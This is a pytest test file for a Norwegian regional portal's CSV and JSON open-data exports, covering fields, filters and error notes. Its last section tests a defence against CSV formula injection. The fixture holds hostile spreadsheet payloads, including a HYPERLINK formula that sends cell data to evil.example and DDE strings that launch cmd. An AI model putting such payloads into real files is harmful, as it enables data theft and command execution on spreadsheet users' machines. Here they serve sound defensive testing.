"""Open data: the CSV and JSON exports of the published measures, with the list's filters."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest

from drivkraft.core.revision import content_changed
from measures.models import Measure
from measures.status import Status
from measures.views import EXPORT_FIELDS, spreadsheet_safe
from tests.conftest import (
    ARCHIVED_SLUG,
    DRAFT_SLUG,
    MEASURE_SLUG,
    OTHER_MEASURE_SLUG,
    TestResponse,
    add_measures,
)

FIELD_NAMES = [name for name, _meaning in EXPORT_FIELDS]


def csv_rows(response: TestResponse) -> tuple[list[str], list[dict[str, str]]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")  # the UTF-8 byte order mark
    lines = response.content.decode("utf-8-sig").splitlines()
    header = next(csv.reader(lines[:1]))
    return header, list(csv.DictReader(io.StringIO("\n".join(lines))))


def json_data(response: TestResponse) -> dict[str, Any]:
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    data: dict[str, Any] = response.json()
    return data


def test_csv_header_is_the_schema_in_order(client, portal):
    header, _rows = csv_rows(client.get("/data/tiltak.csv"))

    assert header == FIELD_NAMES


def test_csv_has_one_row_per_published_measure(client, portal):
    _header, rows = csv_rows(client.get("/data/tiltak.csv"))

    slugs = [row["slug"] for row in rows]
    assert sorted(slugs) == sorted([MEASURE_SLUG, OTHER_MEASURE_SLUG])
    assert DRAFT_SLUG not in slugs
    assert ARCHIVED_SLUG not in slugs


def test_csv_row(client, portal):
    Measure.objects.filter(pk=portal.measure.pk).update(forecast_end=dt.date(2027, 3, 1))
    content_changed()
    _header, rows = csv_rows(client.get("/data/tiltak.csv"))

    row = next(r for r in rows if r["slug"] == MEASURE_SLUG)
    assert row["tittel"] == "Lærlingløftet"
    assert row["satsingsomrade"] == "Kompetanse"
    assert row["mal"] == "Flere fagarbeidere i regionen"
    assert row["status"] == Status.ON_TRACK.value
    assert row["status_tekst"] == "Under arbeid etter plan"
    assert row["framdrift"] == "40"
    assert row["planlagt_start"] == "2024-03-01"
    assert row["planlagt_slutt"] == "2026-12-31"
    assert row["forventet_slutt"] == "2027-03-01"
    assert row["forsinket"] == "true"
    assert dt.datetime.fromisoformat(row["sist_oppdatert"]).tzinfo is not None
    assert row["ansvarlig"] == "Kari Nordmann"
    assert row["ansvarlig_organisasjon"] == "Hålogalandsrådet"
    assert row["kommuner"] == "Harstad; Narvik"
    assert row["url"] == f"http://testserver/tiltak/{MEASURE_SLUG}/"


def test_csv_empty_values(client, portal):
    _header, rows = csv_rows(client.get("/data/tiltak.csv"))

    row = next(r for r in rows if r["slug"] == OTHER_MEASURE_SLUG)
    assert row["forventet_slutt"] == ""
    assert row["forsinket"] == "false"
    assert row["sist_oppdatert"] == ""
    assert row["kommuner"] == "Evenes"


def test_every_status_value_is_from_the_vocabulary(client, portal):
    add_measures(portal, 8)
    _header, rows = csv_rows(client.get("/data/tiltak.csv"))

    assert {row["status"] for row in rows} <= set(Status.values)
    assert {row["status"] for row in rows} == set(Status.values)
    for row in rows:
        assert row["status_tekst"] == str(Status(row["status"]).label)


def test_urls_lead_to_the_measure_pages(client, portal):
    _header, rows = csv_rows(client.get("/data/tiltak.csv"))

    for row in rows:
        assert row["url"].startswith("http://testserver/tiltak/")
        assert client.get(row["url"]).status_code == 200


def test_csv_keeps_commas_quotes_and_newlines_in_one_field(client, portal):
    portal.measure.title = 'Lærling, «løft» og "mer"\nneste linje'
    portal.measure.save()

    _header, rows = csv_rows(client.get("/data/tiltak.csv"))

    assert len(rows) == 2
    assert 'Lærling, «løft» og "mer"\nneste linje' in [row["tittel"] for row in rows]


def test_json(client, portal):
    data = json_data(client.get("/data/tiltak.json"))

    assert {"schema", "lisens", "tiltak", "antall", "merknader"} <= set(data)
    assert data["schema"] == "http://testserver/data/"
    assert data["lisens"] == "CC BY 4.0"
    assert data["antall"] == len(data["tiltak"]) == 2
    assert data["merknader"] == []
    for item in data["tiltak"]:
        assert list(item) == FIELD_NAMES
    item = next(i for i in data["tiltak"] if i["slug"] == MEASURE_SLUG)
    assert item["kommuner"] == ["Harstad", "Narvik"]
    assert item["framdrift"] == 40
    assert item["forsinket"] is False
    assert item["status"] == "etter-plan"
    assert item["url"] == f"http://testserver/tiltak/{MEASURE_SLUG}/"


def test_json_and_csv_agree(client, portal):
    add_measures(portal, 5)
    _header, rows = csv_rows(client.get("/data/tiltak.csv"))
    items = json_data(client.get("/data/tiltak.json"))["tiltak"]

    assert [r["slug"] for r in rows] == [i["slug"] for i in items]
    for row, item in zip(rows, items, strict=True):
        assert row["kommuner"] == "; ".join(item["kommuner"])
        assert row["framdrift"] == str(item["framdrift"])
        assert row["forsinket"] == ("true" if item["forsinket"] else "false")
        assert row["status"] == item["status"]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("omrade=kompetanse", {MEASURE_SLUG}),
        ("omrade=reiseliv", {OTHER_MEASURE_SLUG}),
        ("kommune=evenes", {OTHER_MEASURE_SLUG}),
        ("kommune=evenes&kommune=narvik", {MEASURE_SLUG, OTHER_MEASURE_SLUG}),
        ("status=etter-plan", {MEASURE_SLUG}),
        ("status=ikke-startet&status=etter-plan", {MEASURE_SLUG, OTHER_MEASURE_SLUG}),
        ("q=lærlinger", {MEASURE_SLUG}),
        ("omrade=kompetanse&status=ikke-startet", set()),
        ("q=XYZZY", set()),  # the draft's title
    ],
)
def test_filters_apply_to_both_exports(client, portal, query, expected):
    _header, rows = csv_rows(client.get(f"/data/tiltak.csv?{query}"))
    data = json_data(client.get(f"/data/tiltak.json?{query}"))

    assert {row["slug"] for row in rows} == expected
    assert {item["slug"] for item in data["tiltak"]} == expected
    assert data["antall"] == len(expected)


def test_json_echoes_the_filters(client, portal):
    data = json_data(
        client.get("/data/tiltak.json?omrade=kompetanse&kommune=harstad&status=etter-plan&q=l")
    )

    assert data["filtre"]["omrade"] == "kompetanse"
    assert data["filtre"]["kommune"] == ["harstad"]
    assert data["filtre"]["status"] == ["etter-plan"]
    assert data["filtre"]["q"] == "l"


@pytest.mark.parametrize(
    ("query", "note", "count"),
    [
        ("omrade=finnes-ikke", "Ukjent satsingsområde «finnes-ikke» er ignorert.", 2),
        ("kommune=finnes-ikke", "Ukjent kommune «finnes-ikke» er ignorert.", 2),
        ("kommune=evenes&kommune=tull", "Ukjent kommune «tull» er ignorert.", 1),
        ("status=ferdig", "Ukjent status «ferdig» er ignorert.", 2),
        ("sortering=pris", "Ukjent sortering «pris» er ignorert.", 2),
        ("side=abc", "Ugyldig sidetall «abc»; viser første side.", 2),
        ("q=" + "x" * 10_000, "Søket var for langt og er kortet ned til 200 tegn.", 0),
        ("status=%00%ff", "Ukjent status «\x00\ufffd» er ignorert.", 2),
    ],
)
def test_bad_filters_become_notes(client, portal, query, note, count):
    data = json_data(client.get(f"/data/tiltak.json?{query}"))
    _header, rows = csv_rows(client.get(f"/data/tiltak.csv?{query}"))

    assert note in data["merknader"]
    # An ignored filter does not narrow the export; the good ones still apply.
    assert data["antall"] == len(rows) == count


def test_export_is_not_paginated(client, portal):
    add_measures(portal, 25)

    _header, rows = csv_rows(client.get("/data/tiltak.csv?side=2"))
    assert len(rows) == 27
    assert json_data(client.get("/data/tiltak.json?side=2"))["antall"] == 27


# --- Formula injection (OWASP «CSV Injection») --------------------------------------------------

FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?"&A1,"Klikk")',
    "goal": "+1+cmd|' /C calc'!A0",
    "area": "-2+3",
    "person": "@SUM(1+1)*cmd|' /C calc'!A0",
    "organisation": "\t=1+1",
    "municipality": "\r=1+1",
}


@pytest.fixture
def formulas(portal):
    measure = portal.measure
    Measure.objects.filter(pk=measure.pk).update(title=FORMULAS["title"])
    measure.goal.title = FORMULAS["goal"]
    measure.goal.save()
    measure.focus_area.name = FORMULAS["area"]
    measure.focus_area.save()
    portal.responsible.name = FORMULAS["person"]
    portal.responsible.save()
    portal.responsible.organisation.name = FORMULAS["organisation"]
    portal.responsible.organisation.save()
    portal.harstad.name = FORMULAS["municipality"]
    portal.harstad.save()
    content_changed()
    return FORMULAS


def test_csv_text_cells_that_a_spreadsheet_would_evaluate_begin_with_a_quote(client, formulas):
    response = client.get("/data/tiltak.csv")
    assert response.status_code == 200
    # Read as a spreadsheet reads it: a carriage return inside a quoted cell is part of the cell.
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))

    row = next(r for r in rows if r["slug"] == MEASURE_SLUG)
    assert row["tittel"] == "'" + formulas["title"]
    assert row["mal"] == "'" + formulas["goal"]
    assert row["satsingsomrade"] == "'" + formulas["area"]
    assert row["ansvarlig"] == "'" + formulas["person"]
    assert row["ansvarlig_organisasjon"] == "'" + formulas["organisation"]
    assert row["kommuner"].startswith("'" + formulas["municipality"])
    # No cell of any row begins a formula; numbers and ordinary text are as they were.
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert [v for r in rows for v in r.values() if v.startswith(starts)] == []
    assert row["framdrift"] == "40"
    assert row["slug"] == MEASURE_SLUG
    other = next(r for r in rows if r["slug"] == OTHER_MEASURE_SLUG)
    assert other["tittel"] == "Besøksstrategi"


def test_json_keeps_the_exact_values(client, formulas):
    data = json_data(client.get("/data/tiltak.json"))

    row = next(r for r in data["tiltak"] if r["slug"] == MEASURE_SLUG)
    assert row["tittel"] == formulas["title"]
    assert row["mal"] == formulas["goal"]
    assert row["ansvarlig"] == formulas["person"]
    assert formulas["municipality"] in row["kommuner"]
    assert row["framdrift"] == 40


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+47 123", "'+47 123"),
        ("-5", "'-5"),
        ("@navn", "'@navn"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Vanlig tekst = grei", "Vanlig tekst = grei"),
        ("", ""),
        (-5, -5),  # a number is no text cell
        (40, 40),
    ],
)
def test_spreadsheet_safe(value, cell):
    assert spreadsheet_safe(value) == cell


@pytest.mark.parametrize("prefix", ["", "/en"])
def test_the_data_page_says_how_csv_cells_are_written(client, portal, prefix):
    body = client.get(f"{prefix}/data/").content.decode()

    expected = {
        "": "en apostrof (') foran",
        "/en": "gets an apostrophe (') in front",
    }[prefix]
    assert expected in body
